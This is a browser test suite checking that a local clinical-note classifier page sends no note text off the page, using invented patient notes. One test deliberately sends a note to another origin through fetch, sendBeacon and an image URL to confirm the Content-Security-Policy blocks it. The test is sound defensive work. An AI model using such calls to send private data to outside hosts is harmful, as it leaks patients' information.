// Privacy, enforced: every request the page makes while loading a model, classifying and
// searching is recorded (the page's and its worker's); all go to the page's own origin, to an
// allowlist of the page's files, and none carries any part of a note in its URL, headers or
// body. Then the page and its worker try to reach another origin (a server on loopback that
// records what reaches it) and the Content-Security-Policy stops them. No console message of the
// page or its worker carries a note either. All of it in Chromium and in Firefox.
// Run: node --test tests/browser/   (after `cargo build` and scripts/build-wasm.sh)
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import {
  BROWSERS, browserNames, classifierBundle, openBrowser, recordConsole, recordRequests, root, screenshot, serve, staticServer,
  wasmFile, watchPage, workDir,
} from './helpers.mjs';

const work = workDir('privacy');
// Notes with words that appear in none of the page's own URLs.
const NOTES = [
  'Mrs Quillfeather, DOB 03/07/1951, crushing retrosternal tightness after shovelling snow; troponin 845 ng/L.',
  'Wheezy breathlessness overnight, peak flow 210, salbutamol nebuliser given by Dr Okonkwo-Varga.',
  'Hyperglycaemia 27.3 mmol/L with ketonuria; insulin sliding scale commenced at Larkspur Ward.',
];
const DOCS = [
  'Zanthoxylum allergy documented in Fenwick family history.',
  'Pneumothorax drained at Thornbury clinic, recovering well.',
  'Gallstones removed laparoscopically by Mr Abernathy-Quist.',
];
const QUERY = 'Quillfeather chest tightness';
const COMPARE = ['Marrowby reports palpitations', 'Tachycardia noted by Pemberton-Sykes'];

/** Every word of 4+ letters of every text the page was given. */
const secrets = [...new Set([...NOTES, ...DOCS, QUERY, ...COMPARE].flatMap((t) => t.match(/[\p{L}\p{N}]{4,}/gu) ?? [])
  .map((w) => w.toLowerCase()))];

// The files the page may ask for.
const ALLOWED = new Set(['/', '/style.css', '/app.js', '/favicon.svg', '/model.gguf', '/widget/core.js', '/widget/docs.js',
  '/widget/worker.js', '/widget/wasm-build.js', '/pkg/bedside_runtime.js', '/pkg/bedside_runtime_bg.wasm',
  '/pkg/bedside_runtime_relaxed_bg.wasm',
  // The threaded build, which the worker runs on this cross-origin isolated page, and the
  // script of rayon's workers (wasm-bindgen names its folder by a hash).
  '/pkg/threads/bedside_runtime.js', '/pkg/threads/bedside_runtime_bg.wasm', '/pkg/threads/bedside_runtime_relaxed_bg.wasm']);
const ALLOWED_PATTERN = /^\/pkg\/threads\/snippets\/wasm-bindgen-rayon-[0-9a-f]+\/src\/workerHelpers\.js$/;

/** Whether a text holds a word of a note (the test never prints which: it is note text). */
const leaks = (text) => {
  const lower = text.toLowerCase();
  return secrets.some((word) => lower.includes(word));
};

// The page is served from a copy of www/ with one more file: a test-only worker, served with the
// same policy as the page's own worker, that logs what it is sent or tries to reach a URL. It
// shows that a worker's console is recorded, and that a worker cannot reach another origin in a
// browser whose automation cannot run a script in the page's worker (Firefox).
const site = join(work, 'site');
const PROBE = '/privacy-probe-worker.js';
const PROBE_WORKER = `onmessage = async ({ data }) => {
  if (data.log) { console.log(data.log); postMessage('logged'); return; }
  try { await fetch(data.fetch, { mode: 'no-cors' }); postMessage('sent'); } catch { postMessage('blocked'); }
};
`;
/** Starts the probe worker in the page and sends it one message; resolves to its answer. */
const askProbe = (page, message) => page.evaluate(({ url, message }) => new Promise((resolve) => {
  const worker = new Worker(url);
  worker.onmessage = (e) => { resolve(e.data); worker.terminate(); };
  worker.onerror = (e) => resolve(`worker error: ${e.message}`);
  worker.postMessage(message);
}), { url: PROBE, message });

let bundle;
before(() => {
  bundle = classifierBundle(work);
  cpSync(join(root, 'www'), site, { recursive: true });
  writeFileSync(join(site, PROBE), PROBE_WORKER);
});

for (const name of browserNames) {
  let server, foreign, browser, page, problems, requests, consoleMessages;
  const shot = (base) => (name === 'chromium' ? base : `${base}-${name}`);

  describe(`privacy in ${name}`, () => {
    before(async () => {
      server = await serve({ model: bundle, rootDir: site });
      foreign = await staticServer(work);
      browser = await openBrowser(name);
      page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
      requests = recordRequests(page);
      consoleMessages = recordConsole(page);
      problems = watchPage(page);
    });

    after(async () => {
      await browser?.close();
      await foreign?.stop();
      server?.stop();
    });

    test('load, classify, batch and search send nothing but requests for the page\'s own files', async () => {
      await page.goto(`${server.url}/`);
      await page.waitForSelector('body[data-model-ready="true"]', { timeout: 120_000 });

      for (const note of NOTES) {
        await page.fill('#note', note);
        await page.click('#classify-run');
        await page.waitForFunction(() => /ms on/.test(document.getElementById('classify-status').textContent));
        await page.evaluate(() => { document.getElementById('classify-status').textContent = ''; });
      }
      const notesFile = join(work, 'private-notes.csv');
      writeFileSync(notesFile, `id,text\n${NOTES.map((n, i) => `p${i},"${n}"`).join('\n')}\n`);
      await page.setInputFiles('#notes-file', notesFile);
      await page.waitForSelector('#batch-results:not([hidden])', { timeout: 60_000 });

      await page.fill('#docs-text', DOCS.join('\n'));
      await page.click('#index-build');
      await page.waitForFunction(() => /documents indexed/.test(document.getElementById('index-status').textContent), null, { timeout: 60_000 });
      await page.fill('#query', QUERY);
      await page.click('#search-run');
      await page.waitForFunction(() => document.getElementById('search-results').dataset.json);
      await page.fill('#compare-a', COMPARE[0]);
      await page.fill('#compare-b', COMPARE[1]);
      await page.click('#compare-run');
      await page.waitForFunction(() => document.getElementById('compare-result').dataset.cosine);
      await screenshot(page, shot('privacy-after-use'));

      const origin = new URL(server.url).origin;
      const sent = await requests();
      assert.ok(sent.length > 0);
      // The worker's requests are seen too (it fetches the .wasm of the build it picked itself).
      const wasm = basename(wasmFile(BROWSERS[name].wasmBuild));
      assert.ok(sent.some((r) => r.url.startsWith(origin) && r.url.endsWith(`/${wasm}`)), `the worker's requests are recorded (${wasm})`);
      for (const r of sent) {
        // Firefox reports a data: font of its own as a request; data: URLs never leave the browser.
        if (r.url.startsWith('data:')) continue;
        const seen = `${r.url}\n${decodeURIComponent(r.url)}\n${JSON.stringify(r.headers)}\n${r.body}`;
        // URLs are printed only once they are known to hold no note text.
        assert.ok(!leaks(seen), `a word of a note left the page in a ${r.method} request`);
        assert.notEqual(r.body, null, `the body of ${r.method} ${r.url} could not be read`);
        const url = new URL(r.url);
        assert.equal(url.origin, origin, `request to another origin: ${r.url}`);
        assert.ok(ALLOWED.has(url.pathname) || ALLOWED_PATTERN.test(url.pathname), `unexpected request: ${r.method} ${r.url}`);
        assert.ok(['GET', 'HEAD'].includes(r.method), `${r.method} ${r.url}`);
      }
      // The console of the page and of its workers: the recorder hears a worker (a marker logged
      // there arrives), and no message holds a word of a note.
      const marker = 'bedside-privacy-marker from a worker';
      assert.equal(await askProbe(page, { log: marker }), 'logged');
      const until = Date.now() + 5000;
      while (!consoleMessages.includes(marker) && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
      assert.ok(consoleMessages.includes(marker), 'the console recorder hears workers');
      assert.equal(consoleMessages.filter(leaks).length, 0, 'a console message holds a word of a note');
      assert.equal(problems.filter(leaks).length, 0, 'a page error holds a word of a note');
      assert.deepEqual(problems, []);
    });

    test('the policy is sent with the page and the worker, and it blocks other origins', async () => {
      const response = await page.goto(`${server.url}/`);
      const csp = response.headers()['content-security-policy'];
      assert.match(csp, /default-src 'self'/);
      assert.match(csp, /connect-src 'self'/);
      await page.waitForSelector('body[data-model-ready="true"]', { timeout: 120_000 });
      const worker = page.workers().find((w) => w.url().endsWith('/widget/worker.js'));
      assert.ok(worker, 'the model runs in a worker');

      // Another origin on loopback (another port), which records anything that reaches it.
      const target = `${foreign.url}/leak?note=${encodeURIComponent(NOTES[0])}`;
      const fromPage = await page.evaluate(async (url) => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
        const outcomes = {};
        try { await fetch(url, { mode: 'no-cors' }); outcomes.fetch = 'sent'; } catch { outcomes.fetch = 'blocked'; }
        // sendBeacon answers true and is blocked later: what counts is that nothing arrives.
        navigator.sendBeacon(url, 'x');
        await new Promise((resolve) => {
          const img = new Image();
          img.onload = () => { outcomes.image = 'loaded'; resolve(); };
          img.onerror = () => { outcomes.image = 'blocked'; resolve(); };
          img.src = url;
        });
        await new Promise((r) => setTimeout(r, 300));
        return { outcomes, violations };
      }, target);
      const fromProbe = await askProbe(page, { fetch: target });
      // The page's own worker too, where the automation can run a script in it (not Firefox's BiDi).
      const fromWorker = BROWSERS[name].evaluatesInWorkers ? await worker.evaluate(async (url) => {
        try { await fetch(url, { mode: 'no-cors' }); return 'sent'; } catch { return 'blocked'; }
      }, target) : null;
      await new Promise((r) => setTimeout(r, 300));

      assert.deepEqual(fromPage.outcomes, { fetch: 'blocked', image: 'blocked' });
      assert.equal(fromProbe, 'blocked');
      if (BROWSERS[name].evaluatesInWorkers) assert.equal(fromWorker, 'blocked');
      assert.ok(fromPage.violations.includes('connect-src') && fromPage.violations.includes('img-src'), fromPage.violations.join());
      // (Their count only: what reached it would be note text.)
      assert.equal(foreign.requests.length, 0, 'something reached the other origin');
    });
  });
}
